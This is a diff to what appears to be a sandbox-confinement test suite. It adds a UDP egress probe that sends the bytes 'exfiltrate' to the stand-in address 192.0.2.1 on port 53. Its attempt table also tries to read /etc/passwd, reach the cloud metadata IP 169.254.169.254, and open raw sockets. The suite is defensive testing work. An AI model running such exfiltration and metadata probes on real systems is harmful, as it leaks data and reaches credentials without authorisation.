@@ -357,6 +357,21 @@ def name_to_handle_attempt():
     sc("name_to_handle_at", -100, ctypes.c_char_p(b"/etc/passwd"), buf, ctypes.byref(mount_id), 0)
 
 
+def udp_egress():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    try:
+        s.sendto(b"exfiltrate", ("192.0.2.1", 53))
+    finally:
+        s.close()
+
+
+def unix_dgram_ok():
+    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
+    a.send(b"ping")
+    if b.recv(8) != b"ping":
+        raise RuntimeError("no echo")
+
+
 def host_abstract():
     s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
     s.settimeout(3)
@@ -416,8 +431,9 @@ ATTEMPTS = {
     "connect_loopback_allowed_port": (lambda: connect("127.0.0.1", CFG["allowed_port"]), lambda: CFG["allowed_connect"]()),
     "connect_metadata": (lambda: connect("169.254.169.254", 80), lambda: CFG["allowed_connect"]()),
     "connect_unlisted": (lambda: connect("192.0.2.1", 443), lambda: CFG["allowed_connect"]()),
+    "udp_egress": (udp_egress, unix_dgram_ok),
     "raw_socket": (lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
-                   lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()),
+                   lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).close()),
     "packet_socket": (lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0),
                       lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).close()),
     "bpf": (bpf_attempt, lambda: sc("sched_yield")),
